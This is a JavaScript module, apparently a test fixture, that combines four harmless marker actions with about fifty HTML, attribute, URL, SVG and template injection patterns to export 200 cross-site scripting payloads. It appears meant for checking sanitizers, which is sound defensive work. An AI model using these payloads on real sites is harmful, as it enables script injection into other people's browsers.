// Texts that a page with a hole would run: each calls `alert` or marks the window, in every way that is known for
// getting out of text into markup, an attribute, a template, an address or a script.

const RUNS = [
  'alert(1)',
  'window.__ran=1',
  "top['al'+'ert'](1)",
  'import(`data:text/javascript,window.__ran=1`)',
];

const HOLES = [
  (run) => `<script>${run}</script>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</style><script>${run}</script>`,
  (run) => `--><script>${run}</script><!--`,
  (run) => `]]><script>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<ScRiPt >${run}</sCrIpT>`,
  (run) => `<script\t>${run}</script\n>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src="x" onerror="${run}">`,
  (run) => `<img/src=x/onerror=${run}//`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<a href="javascript:${run}">here</a>`,
  (run) => `<a href="java\tscript:${run}">here</a>`,
  (run) => `javascript:${run}`,
  (run) => `<form action="javascript:${run}"><input type=submit autofocus></form>`,
  (run) => `<button formaction="javascript:${run}">here</button>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `" autofocus onfocus=${run} x="`,
  (run) => `' onmouseover='${run}`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<marquee onstart=${run}>`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${run})}">`,
  (run) => `<style>@import 'javascript:${run}';</style>`,
  (run) => `<div style="background:url(javascript:${run})">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `{@html "<img src=x onerror=${run}>"}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}<%= ${run} %>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\u2028<img src=x onerror=${run}>\u202e`,
];

/** Two hundred, each once. */
export const payloads = HOLES.flatMap((hole) => RUNS.map((run) => hole(run)));
